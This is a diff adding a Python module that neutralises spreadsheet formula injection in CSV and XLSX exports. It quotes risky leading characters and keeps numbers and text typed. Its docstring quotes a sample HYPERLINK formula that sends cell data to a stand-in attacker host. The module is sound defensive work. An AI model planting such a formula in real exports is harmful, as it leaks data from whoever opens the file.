@@ -1,0 +1,106 @@
+"""Every CSV and XLSX the hub writes goes through here, so no cell opens as a live formula.
+
+A spreadsheet treats a cell that begins with `=`, `+`, `-`, `@`, a tab, a carriage return
+or a NUL as a formula (or strips the first character and then evaluates the rest). Feed
+values, consultation answers and directory entries come from outside the hub, so an export
+could carry `=HYPERLINK("http://evil.example/?leak="&A3,"Details")` to a commissioner's
+desktop. OWASP's CSV injection guidance and ASVS 5.0 requirement 1.2.10 say: put a single
+quote before such a cell. A plain number such as `-5` or `+3.5` is left alone: spreadsheets
+read it as a number, never a formula, and figures must still add up (ADR 0031).
+
+In XLSX, openpyxl stores any string beginning with `=` as a formula; `xlsx_append` keeps
+every string a string (with Excel's "quote prefix" style, so editing the cell does not turn
+it into one) and numbers stay typed numbers.
+"""
+
+import csv
+import re
+from collections.abc import Iterable, Mapping, Sequence
+from typing import Any, Protocol
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\0")
+QUOTE = "'"
+# A plain decimal number, optionally signed: read as a number by every spreadsheet.
+_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)")
+
+
+class _Writable(Protocol):
+    def write(self, text: str, /) -> Any: ...
+
+
+def formula_safe(value: Any) -> Any:
+    """The cell to write: text that a spreadsheet would evaluate gets a leading quote."""
+    starts_a_formula = isinstance(value, str) and value.startswith(FORMULA_STARTS)
+    if starts_a_formula and not _PLAIN_NUMBER.fullmatch(value):
+        return QUOTE + value
+    return value
+
+
+def formula_restored(value: str) -> str:
+    """The value `formula_safe` was given: an import of the hub's own export (the directory,
+    a transfer package) reads back what was exported, not the added quote."""
+    if value.startswith(QUOTE) and value[1:].startswith(FORMULA_STARTS):
+        return value[1:]
+    return value
+
+
+class SafeCsvWriter:
+    """`csv.writer` whose every cell has passed `formula_safe`."""
+
+    def __init__(self, out: _Writable, **options: Any) -> None:
+        self._writer = csv.writer(out, **options)
+
+    def writerow(self, row: Iterable[Any]) -> Any:
+        return self._writer.writerow([formula_safe(cell) for cell in row])
+
+    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
+        for row in rows:
+            self.writerow(row)
+
+
+class SafeCsvDictWriter(csv.DictWriter):  # type: ignore[type-arg]
+    """`csv.DictWriter` whose every cell (header included) has passed `formula_safe`."""
+
+    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
+        return super().writerow({key: formula_safe(value) for key, value in rowdict.items()})
+
+    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]) -> None:
+        for rowdict in rowdicts:
+            self.writerow(rowdict)
+
+
+def csv_writer(out: _Writable, **options: Any) -> SafeCsvWriter:
+    return SafeCsvWriter(out, **options)
+
+
+def csv_dict_writer(out: _Writable, fieldnames: Sequence[str], **options: Any) -> SafeCsvDictWriter:
+    return SafeCsvDictWriter(out, fieldnames=fieldnames, **options)
+
+
+def xlsx_append(sheet: Any, row: Iterable[Any]) -> None:
+    """Append a row to an openpyxl worksheet: numbers stay numbers, text stays text.
+
+    Control characters an XLSX file cannot hold (NUL and the like) are left out, so a stray
+    one in a label cannot turn the download into an error."""
+    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
+
+    cells = []
+    for value in row:
+        if isinstance(value, str):
+            value = ILLEGAL_CHARACTERS_RE.sub("", value)
+        cell = Cell(sheet, value=value)
+        if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+            cell.data_type = "s"  # openpyxl makes a string beginning with `=` a formula
+            cell.quotePrefix = True  # and Excel keeps it text if someone edits the cell
+        cells.append(cell)
+    sheet.append(cells)
+
+
+__all__ = [
+    "FORMULA_STARTS",
+    "csv_dict_writer",
+    "csv_writer",
+    "formula_restored",
+    "formula_safe",
+    "xlsx_append",
+]
